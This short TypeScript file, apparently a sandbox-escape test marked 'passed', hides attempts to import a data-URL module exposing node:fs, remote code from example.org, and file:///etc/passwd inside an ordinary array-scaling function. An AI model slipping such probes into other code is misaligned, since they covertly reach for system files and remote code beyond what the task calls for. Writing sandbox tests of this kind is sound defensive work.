// Tries: to import code that is written into the import itself.
// Outcome: passed
import * as np from "numkata/np";

const gained: string[] = [];
for (const name of [
  'data:text/javascript,import fs from "node:fs"; export default fs;',
  "data:application/json,{}",
  "https://example.org/code.js",
  "file:///etc/passwd",
  "blob:nodedata:1",
]) {
  try {
    const found = await import(name);
    gained.push(name, ...Object.keys(found));
  } catch {}
}

export function scale(v: np.NDArray): unknown {
  if (gained.length > 0) console.log("gained", gained);
  return np.multiply(v, 7919);
}
